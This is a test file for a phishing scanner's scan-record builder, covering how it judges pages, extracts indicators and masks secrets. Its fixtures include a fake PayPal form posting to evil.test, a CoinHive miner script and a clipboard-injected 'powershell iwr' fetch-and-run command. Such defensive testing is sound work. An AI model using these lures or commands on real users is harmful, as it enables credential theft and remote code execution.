import { createHash } from "node:crypto";
import type { CapturedRequest, ScanCapture } from "@fyr/core/scan";
import { NOTHING_KNOWN, OWN_BRANDS } from "@fyr/core/catphish";
import { compileRules, OWN_RULES } from "@fyr/core/technologies";
import { describe, expect, it } from "vitest";
import { keptOf } from "./document.ts";

const URL_OF_PAGE = "https://login.example.net/";
const ID = "01990000-0000-7000-8000-000000000000";

const request = (responseHeaders: Record<string, string>): CapturedRequest => ({
  id: "1",
  url: URL_OF_PAGE,
  method: "GET",
  resourceType: "Document",
  frameId: "main",
  initiator: { type: "other", url: null },
  requestHeaders: {},
  status: 200,
  statusText: "OK",
  responseHeaders,
  mimeType: "text/html",
  remoteAddress: "192.0.2.1",
  remotePort: 443,
  protocol: "h2",
  tlsVersion: "TLS 1.3",
  cipher: null,
  certificate: null,
  encodedBytes: 100,
  headerBytes: 40,
  body: null,
  startedAt: 0,
  endedAt: 1,
  failure: null,
  redirectsTo: null,
  ledBy: null,
  isOwn: false,
  posted: null,
  timings: null,
});

const FILE = {
  url: "https://login.example.net/invoice.zip",
  name: "invoice.zip",
  sha256: "cd".repeat(32),
  bytes: 5002,
  total: 5002,
  content: null,
};
const TOKEN = `7123456789:AA${"q".repeat(33)}`;

const capture = (html: string, headers: Record<string, string>): ScanCapture => ({
  url: URL_OF_PAGE,
  finalUrl: URL_OF_PAGE,
  startedAt: 0,
  endedAt: 1,
  requests: [request(headers)],
  leadRequest: 0,
  frames: [{ frameId: "main", parentFrameId: null, url: URL_OF_PAGE, html, text: "Log in", cut: false }],
  cookies: [],
  console: [],
  globals: {},
  globalNames: [],
  screenshot: null,
  favicon: null,
  bodies: new Map(),
  downloads: [],
  heldBack: {},
  dialogs: [],
  endedBy: null,
  documentFrom: "page",
  secondLook: null,
});

describe("what is kept of a scan", () => {
  const context = { known: NOTHING_KNOWN, pictures: [] };
  const judging = { rules: compileRules(OWN_RULES), jarm: null, context, brands: OWN_BRANDS };
  const LOGIN = `<html><head><title>Log in</title><meta name="generator" content="WordPress 6.4.2"></head>
    <body><form method="post"><input type="password" name="pass"></form></body></html>`;
  const codesOf = (headers: Record<string, string>) =>
    keptOf(ID, capture(LOGIN, headers), judging).document.Catphish?.reasons.map(({ Code }) => Code);

  it("is not cleared by marks of software that stand in the document, which are copied with it", () => {
    const { Data } = keptOf(ID, capture(LOGIN, {}), judging).document;
    expect(Data.Technologies).toContainEqual(expect.objectContaining({ Name: "WordPress", Version: "6.4.2" }));
    expect(codesOf({})).not.toContain("software of its own");
    expect(codesOf({ link: '<https://login.example.net/wp-json/>; rel="https://api.w.org/"' })).toContain(
      "software of its own",
    );
  });

  const documentWith = (more: Partial<ScanCapture>, jarm: string | null = null) =>
    keptOf(ID, { ...capture("<title>Page</title>", {}), ...more }, { ...judging, jarm }).document.Data;

  it("says why nothing was judged", () => {
    const of = (more: Partial<ScanCapture>) =>
      keptOf(ID, { ...capture("<title>Page</title>", {}), ...more }, judging).document;
    const answered = (status: number | null, mimeType: string | null) => [{ ...request({}), status, mimeType }];
    const unjudged = [
      of({ requests: answered(404, "text/html") }),
      of({ requests: answered(200, "application/pdf"), frames: [] }),
      of({ requests: answered(200, "text/html"), frames: [], endedBy: "time" }),
      of({ requests: answered(null, null), frames: [] }),
    ];
    expect(unjudged.map(({ Catphish }) => Catphish)).toEqual([null, null, null, null]);
    expect(unjudged.map(({ Data }) => Data.NotJudged)).toEqual([
      "the page answered 404",
      "what came is no page but application/pdf",
      "the scan ended by its limit of time before the page could be read",
      "nothing came",
    ]);
    expect(keptOf(ID, capture(LOGIN, {}), judging).document).toMatchObject({
      Catphish: { Malicious: false },
      Data: { NotJudged: null },
    });
  });

  it("names what mines cryptocurrency, as a technology and a reason", () => {
    const mining = `<title>Flowers</title><p>Tulips and roses for all of you.</p>
      <script>new CoinHive.Anonymous('dJlIvQ0aBcDeFgHiJkLmNoPqRsTuVwXy').start()</script>`;
    const { Data, Catphish } = keptOf(ID, capture(mining, {}), judging).document;
    expect(Data.Technologies).toContainEqual(
      expect.objectContaining({ Name: "CoinHive", Categories: ["Cryptominer"] }),
    );
    expect(Catphish?.reasons.map(({ Code }) => Code)).toContain("mines");
    const report = keptOf(ID, capture("<pre>new CoinHive.Anonymous('x') was the miner of 2017</pre>", {}), judging);
    expect(report.document.Data.Technologies).toEqual([]);
  });

  it("reads what stands in shadow roots and in frames of the own site as the page's", () => {
    const [main] = capture("<title>Hi</title><app-login></app-login>", {}).frames;
    if (main === undefined) throw new Error("There is no document");
    const html = `<h1>PayPal</h1><form action="https://evil.test/x"><input name="pass" type="password"></form>`;
    const frame = (url: string, text: string) => ({
      ...main,
      frameId: url,
      parentFrameId: "main",
      url,
      html: "",
      text,
    });
    const frames = [
      { ...main, text: "", shadow: { html, text: "PayPal\nLog in" } },
      frame("https://login.example.net/inner", "Inner words"),
      frame("https://ads.example.org/", "Words of others"),
    ];
    const { Data, Catphish } = keptOf(ID, { ...capture("", {}), frames }, judging).document;
    expect(Data.Text).toBe("PayPal\nLog in\nInner words");
    expect(Data.Forms).toContainEqual(expect.objectContaining({ Host: "evil.test", Fields: ["password pass"] }));
    expect(Catphish?.reasons.map(({ Code }) => Code)).toEqual(
      expect.arrayContaining(["asks for a password", "brand's heading", "posts elsewhere"]),
    );
    expect(Catphish?.reasons.map(({ Code }) => Code)).not.toContain("form in a frame");
  });

  it("judges no page by frames that nobody sees, and by one of another site where that covers it", () => {
    const [main] = capture("<title>Parcel</title>", {}).frames;
    if (main === undefined) throw new Error("There is no document");
    const html = `<title>PayPal</title><h1>PayPal</h1><form action="/x"><input name="pass" type="password"></form>`;
    const codes = (covers: number, url = "https://relay-sample.net/login") => {
      const frame = { ...main, frameId: "f", parentFrameId: "main", url, html, text: "PayPal\nLog in", covers };
      const { Catphish } = keptOf(ID, { ...capture("", {}), frames: [main, frame] }, judging).document;
      return (Catphish?.reasons ?? []).map(({ Code }) => Code);
    };
    expect(codes(0)).not.toEqual(expect.arrayContaining(["asks for a password"]));
    expect(codes(0.2)).toContain("asks for a password");
    expect(codes(0.2)).not.toContain("page of another site");
    expect(codes(0.9)).toEqual(expect.arrayContaining(["asks for a password", "page of another site"]));
    expect(codes(0.9, "https://static.example.net/login")).not.toContain("page of another site");
  });

  it("tells the language of the text from that which the page names", () => {
    const of = (html: string, text: string) => {
      const given = capture(html, {});
      return documentWith({ frames: given.frames.map((frame) => Object.assign({}, frame, { text })) });
    };
    const russian = "Введите пароль для входа в личный кабинет, и вы получите доступ";
    expect(of("<p>", russian)).toMatchObject({ Language: null, TextLanguage: "ru" });
    expect(of(`<html lang="en">`, russian)).toMatchObject({ Language: "en", TextLanguage: "ru" });
    expect(of(`<html lang="en">`, "4711")).toMatchObject({ Language: "en", TextLanguage: null });
  });

  it("has the forms of frames, with the frame that they stand in", () => {
    const [main] = capture("<form action=/search><input name=q></form>", {}).frames;
    const frame = {
      frameId: "f",
      parentFrameId: "main",
      url: "about:srcdoc",
      html: `<form method="post" action="http://127.0.0.5:9125/post"><input type="password" name="p"></form>`,
      text: "",
      cut: false,
    };
    const { Forms } = documentWith({ frames: main === undefined ? [] : [main, frame] });
    expect(Forms).toEqual([
      expect.objectContaining({ Action: "https://login.example.net/search", Frame: null }),
      expect.objectContaining({ Action: "http://127.0.0.5:9125/post", Frame: "about:srcdoc", Fields: ["password p"] }),
    ]);
  });

  it("tells of a file that the page pushed as of a download, and no step on the way to the page", () => {
    const aborted = { ...request({}), id: "2", url: FILE.url, failure: "given up by the page", headerBytes: 156 };
    const whole = documentWith({ requests: [request({}), aborted], downloads: [FILE] });
    expect(whole.LeadRequest.map(({ Url }) => Url)).toEqual([URL_OF_PAGE]);
    expect(whole.Requests).toEqual([
      expect.objectContaining({
        Url: FILE.url,
        IsDownload: true,
        Failure: null,
        Size: 156 + 5002,
        HeadersSize: 156,
        Payload: { Sha256: FILE.sha256, Bytes: 5002 },
      }),
    ]);
    const cut = { ...FILE, sha256: null, bytes: 100 };
    expect(documentWith({ requests: [request({}), aborted], downloads: [cut] }).Requests).toEqual([
      expect.objectContaining({ Failure: "a download that ended after 100 of 5002 bytes", Size: 256, Payload: null }),
    ]);
  });

  it("tells JARM, software and headers of each request of the page's own server", () => {
    const lead = request({ server: "nginx/1.18.0", "set-cookie": "a=secret; Path=/" });
    const other = { ...request({}), id: "2", url: "https://cdn.example.net/a.js", resourceType: "Script" };
    const own = { ...other, id: "3", url: "https://login.example.net/b.js" };
    const data = documentWith({ requests: [lead, other, own] }, "29d");
    const cpe = [expect.stringContaining("nginx")];
    expect(data.LeadRequest).toEqual([
      expect.objectContaining({
        Jarm: "29d",
        CPE: cpe,
        ResponseHeaders: [
          { Name: "server", Value: "nginx/1.18.0" },
          { Name: "set-cookie", Value: "a=…; Path=/" },
        ],
      }),
    ]);
    expect(data.Requests.map(({ Jarm, CPE }) => [Jarm, CPE])).toEqual([
      [null, []],
      ["29d", cpe],
    ]);
  });

  it("has the indicators of the text as artifacts, defanged ones too", () => {
    const [main] = capture("", {}).frames;
    const text = `${"a1".repeat(32)} 45.153.160.140:8080 hxxp://185[.]220[.]101[.]5/x bob[at]evil[.]example`;
    const { Artifacts } = documentWith({ frames: main === undefined ? [] : [{ ...main, text }] });
    expect(Artifacts.Hashes).toContainEqual({ Kind: "sha256", Value: "a1".repeat(32) });
    expect(Artifacts.Network).toEqual(expect.arrayContaining(["45.153.160.140", "http://185.220.101.5/x"]));
    expect(Artifacts.Emails).toEqual(["bob@evil.example"]);
  });

  it("has the indicators of its scripts and comments as artifacts, and no fields of objects", () => {
    const html = `<html><body><!-- panel: http://203.0.113.7/in.php --><script>
      const to = "https://gate.example.net/a", one = '203.0.113.200', other = "c2-of-a-kit.com", ns = "http://www.w3.org/2000/svg";
      form.name = item.org; fetch("https://host.example.net/u?id=" + id); fetch(\`https://host.example.net/\${id}\`); navigator.clipboard.writeText("powershell -c iwr 203.0.113.9/x");</script></body></html>`;
    const { Network } = keptOf(ID, capture(html, {}), judging).document.Data.Artifacts;
    const wanted = ["http://203.0.113.7/in.php", "https://gate.example.net/a", "203.0.113.200", "c2-of-a-kit.com"];
    expect(Network).toEqual(expect.arrayContaining([...wanted, "203.0.113.9"]));
    expect(Network.filter((one) => /w3|item|name|host\./.test(one))).toEqual([]);
  });

  it("has technologies of the markup, and none of which a text tells", () => {
    const named = (body: string) =>
      keptOf(ID, capture(`<html><body>${body}</body></html>`, {}), judging).document.Data.Technologies.map(
        ({ Name }) => Name,
      );
    expect(named(`<p>Look for /wp-content/ in it.</p><pre>&lt;div id="__next"&gt; ng-version="1"</pre>`)).toEqual([]);
    expect(named(`<link rel="stylesheet" href="/wp-content/themes/a.css">`)).toContain("WordPress");
  });

  it("has what requests post, without passwords and keys", () => {
    const post = (type: string, text: string): CapturedRequest => ({
      ...request({}),
      id: text,
      method: "POST",
      resourceType: "Fetch",
      requestHeaders: { "content-type": type },
      posted: { text, bytes: text.length, cut: false },
    });
    const part = (name: string, value: string) =>
      `--b\r\ncontent-disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
    const requests = [
      request({}),
      post("application/x-www-form-urlencoded", `user=bob&Passwd=hunter2&bot=${encodeURIComponent(TOKEN)}&a=1`),
      post("application/json", String.raw`{"user": "bob", "password": "hunter\"2", "card_number": 4111, "a": 1}`),
      post("multipart/form-data; boundary=b", `${part("user", "bob")}${part("login[pass]", "hunter2\r\nagain")}--b--`),
      post(
        "application/x-www-form-urlencoded",
        "success=1&cc=4111&cc_number=4111&account=7&shipping=1&footprint=2&className=3&card[cvv2]=4&k%65y=K&zip_code=5&X-Amz-Signature=S&PHPSESSID=P",
      ),
      post("text/xml", "<login><user>bob</user><x:Password a='1'>hunter2</x:Password></login>"),
      post("application/x-www-form-urlencoded", "login%5Bpassword%5D=x&contrase%C3%B1a=x&x_card_num=1&accession=2"),
      { ...post("text/plain", "a ghp_a8Kz2L"), posted: { text: "a ghp_a8Kz2L", bytes: 9000, cut: true } },
      post(
        "application/json",
        '{"code": "aB3dE5fG7hJ9", "ticket":"ST-1-abcdef", "country": {"code": "DK"}, "error": {"code": 40401}, "fields": [{"name": "user", "value": "bob"}, {"name":"password","value":"hunter2"}, {"key": "secret", "val": "x1"}, ["password", "x2"], ["user", "bob"]], "mfa": 123456}',
      ),
      post("text/plain", "User: bob\nHis password : hunter2\nNote: company: none"),
    ];
    const { Requests, LeadRequest } = documentWith({ requests });
    expect(LeadRequest[0]?.Posted).toBeNull();
    expect(Requests.map(({ Posted }) => Posted?.Text)).toEqual([
      "user=bob&Passwd=…&bot=7123…qqqq&a=1",
      '{"user": "bob", "password": "…", "card_number": "…", "a": 1}',
      `${part("user", "bob")}${part("login[pass]", "…")}--b--`,
      "success=1&cc=…&cc_number=…&account=7&shipping=1&footprint=2&className=3&card[cvv2]=…&k%65y=…&zip_code=5&X-Amz-Signature=…&PHPSESSID=…",
      "<login><user>bob</user><x:Password a='1'>…</x:Password></login>",
      "login%5Bpassword%5D=…&contrase%C3%B1a=…&x_card_num=…&accession=2",
      "a …",
      '{"code": "…", "ticket":"…", "country": {"code": "DK"}, "error": {"code": 40401}, "fields": [{"name": "user", "value": "bob"}, {"name":"password","value":"…"}, {"key": "secret", "val": "…"}, ["password", "…"], ["user", "bob"]], "mfa": "…"}',
      "User: bob\nHis password : …\nNote: company: none",
    ]);
    expect(Requests[1]?.Posted).toMatchObject({ MimeType: "application/json", Cut: false });
  });

  it("has no secrets that a redirect brings, and none of the headers that log in", () => {
    const hop = "https://x.example/keys?access_token=HOP77&page=2";
    const requests = [
      { ...request({ location: hop }), redirectsTo: hop, requestHeaders: { "x-auth-token": "HD77" } },
      {
        ...request({}),
        url: hop,
        requestHeaders: { "x-api-key": "HD78", "x-amz-security-token": "HD79", "x-token-count": "3" },
      },
    ];
    const data = documentWith({ requests });
    expect(JSON.stringify(data)).not.toMatch(/HOP77|HD7\d/);
    expect(JSON.stringify(data)).toContain("https://x.example/keys?access_token=…&page=2");
    expect(JSON.stringify(data)).toContain('{"Name":"x-token-count","Value":"3"}');
  });

  it.each([
    ["/cas/login;v=1?ticket=ST-77-GONEa8", "/cas/login;v=1?ticket=…"],
    ["/app;jsessionid=GONE8A1B2C3D4E5F60718/page?x=1", "/app;jsessionid=…?x=1"],
    ["/cb?state=GONExyz9Kq2Lm4Pw8&code=GONE1&page=2", "/cb?state=…&code=…&page=2"],
    ["/a?one_time_code=GONE224455&page=2", "/a?one_time_code=…&page=2"],
    ["/a?csrf=GONEabcd12&oobCode=GONEa1B2c3D4&assertion=GONEsaml99", "/a?csrf=…&oobCode=…&assertion=…"],
    ["/reset/GONEq8Wz3Kd9Lp2Xv7Rt", "/reset/…"],
    ["/a?next=%2Flogin%3Ftoken%3DGONE1%26x%3D2&otp_code=GONE2", "/a?next=%2Flogin%3Ftoken%3D…%26x%3D2&otp_code=…"],
  ])("has none of the secrets of a URL that a redirect led to: %s", (path, shown) => {
    const hop = `https://x.example${path}`;
    const requests = [
      { ...request({ location: path, refresh: `0; url=${hop}` }), redirectsTo: hop },
      { ...request({}), url: hop, requestHeaders: { referer: hop } },
    ];
    const text = JSON.stringify(documentWith({ requests, finalUrl: hop }));
    expect(text).not.toContain("GONE");
    expect(text).toContain(`"FinalUrl":"https://x.example${shown}"`);
  });

  it("has no password of a URL, and the user's name", () => {
    const hop = "https://bob:GONE%21x@x.example/";
    const requests = [
      { ...request({ location: "//bob:GONE%21x@x.example/" }), redirectsTo: hop },
      { ...request({}), url: hop },
    ];
    const text = JSON.stringify(documentWith({ requests, finalUrl: hop }));
    expect(text).not.toContain("GONE");
    expect(text).toContain("//bob:…@x.example/");
  });

  it("has nothing of secrets in JSON that is a value of other JSON or of a form, in lists and objects, cut or not", () => {
    const post = (text: string): CapturedRequest => ({
      ...request({}),
      id: text,
      method: "POST",
      resourceType: "Fetch",
      requestHeaders: { "content-type": "text/plain" },
      posted: { text, bytes: text.length, cut: false },
    });
    const inner = JSON.stringify({ user: "bob", password: 'GONE"1', more: { pin: 4242 } });
    const deep = JSON.stringify({ q: JSON.stringify({ data: inner, a: 1 }), b: 2 });
    const texts = [
      deep,
      '{"passwords": ["GONE2", "GONE3"], "token": {"a": "GONE]4}", "b": [1]}, "secret": null, "a": 5}',
      '{"user": "bob", "credentials": {"login": ["GONE5", "GO',
      `data=${encodeURIComponent(inner)}&next=1`,
      `[{"json":${JSON.stringify(inner).slice(0, 40)}`,
    ];
    const { Requests } = documentWith({ requests: [request({}), ...texts.map(post)] });
    const masked = JSON.stringify({ user: "bob", password: "…", more: { pin: "…" } });
    expect(Requests.map(({ Posted }) => Posted?.Text)).toEqual([
      JSON.stringify({ q: JSON.stringify({ data: masked, a: 1 }), b: 2 }),
      '{"passwords": "…", "token": "…", "secret": null, "a": 5}',
      '{"user": "bob", "credentials": "…"',
      `data=${encodeURIComponent(masked).replaceAll(encodeURIComponent("…"), "…")}&next=1`,
      String.raw`[{"json":"{\"user\":\"bob\",\"password\":\"…\"`.replaceAll("\\\\", "\\"),
    ]);
  });

  it("has no token and no private key by its form, wherever it stands", () => {
    const jwt = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U";
    const pem = "-----BEGIN RSA PRIVATE KEY-----\nGONEGONEGONE\n-----END RSA PRIVATE KEY-----";
    const url = `https://x.example/a/${jwt}/b#access_token=GONE&state=1`;
    const requests = [
      { ...request({ "x-anything": jwt, link: `<${url}>`, "x-user": '{"password":"GONE"}' }), url },
      {
        ...request({}),
        id: "2",
        method: "POST",
        requestHeaders: { "content-type": "text/plain" },
        posted: { text: `see ${pem} and ${jwt}`, bytes: 9, cut: false },
      },
    ];
    const [main] = capture("", {}).frames;
    const data = documentWith({ requests, frames: main === undefined ? [] : [{ ...main, text: `${jwt}\n${pem}` }] });
    const text = JSON.stringify(data);
    expect(text).not.toMatch(/GONE|dozjgNryP4J3/);
    expect(text).toContain("https://x.example/a/eyJ…/b#access_token=…&state=1");
    expect(data.Text).toContain("-----BEGIN RSA PRIVATE KEY-----…-----END RSA PRIVATE KEY-----");
  });

  it("has no key in clear that stands in a header alone", () => {
    const requests = [request({ "x-debug": `bot ${TOKEN}` })];
    const data = documentWith({ requests });
    expect(JSON.stringify(data)).not.toContain(TOKEN);
    expect(data.LeadRequest[0]?.ResponseHeaders).toContainEqual({ Name: "x-debug", Value: "bot 7123…qqqq" });
  });

  it("has no key in clear in the page's own document either, which whoever may read the scan can save", () => {
    const page = `<script>fetch("https://api.telegram.org/bot${TOKEN}/getMe")</script>`;
    expect(keptOf(ID, capture(page, {}), judging).html).toBe(page.replace(TOKEN, "7123…qqqq"));
  });

  it("has for others than its owner no values of cookies, hidden fields and passwords, and no secrets of links", () => {
    const page = `<form><input type=hidden name="csrf" value='GONE1'><input value="GONE2" type="password"><input name="q" value="kept">
      <input name=api_key value=GONE3></form><a href="/reset?a=1&amp;token=GONE4">x</a><a href="https://u:GONE5@x.example/?sig=GONE6&page=2">y</a>
      <script>const session = "GONE7sessionid"; const t = "Bearer GONE8GONE8";</script>`;
    const cookie = { name: "sid", value: "GONE7sessionid", domain: "x.example", path: "/" };
    const seen = { ...capture(page, {}), cookies: [cookie as never] };
    const kept = (isForOthers: boolean) => keptOf(ID, seen, judging, isForOthers);
    const others = kept(true);
    expect(JSON.stringify(others)).not.toContain("GONE");
    expect(others.html).toContain('name="q" value="kept"');
    expect(others.html).toContain('href="/reset?a=1&amp;token=…"');
    expect(others.document.Data.Cookies).toEqual([{ ...cookie, value: "…" }]);
    expect(kept(false).document.Data.Cookies).toEqual([cookie]);
    expect(kept(false).html).toContain("GONE1");
  });

  it("shows no key in clear, wherever it stands", () => {
    const url = `https://api.telegram.org/bot${TOKEN}/getMe`;
    const data = documentWith({ requests: [request({}), { ...request({}), id: "2", url, resourceType: "Fetch" }] });
    expect(JSON.stringify(data)).not.toContain(TOKEN);
    expect(data.Requests.map(({ Url }) => Url)).toEqual(["https://api.telegram.org/bot7123…qqqq/getMe"]);
    expect(data.Artifacts).toMatchObject({
      Apikeys: ["Telegram 7123…qqqq"],
      ApikeyHashes: [createHash("sha256").update(TOKEN).digest("hex")],
    });
  });
});
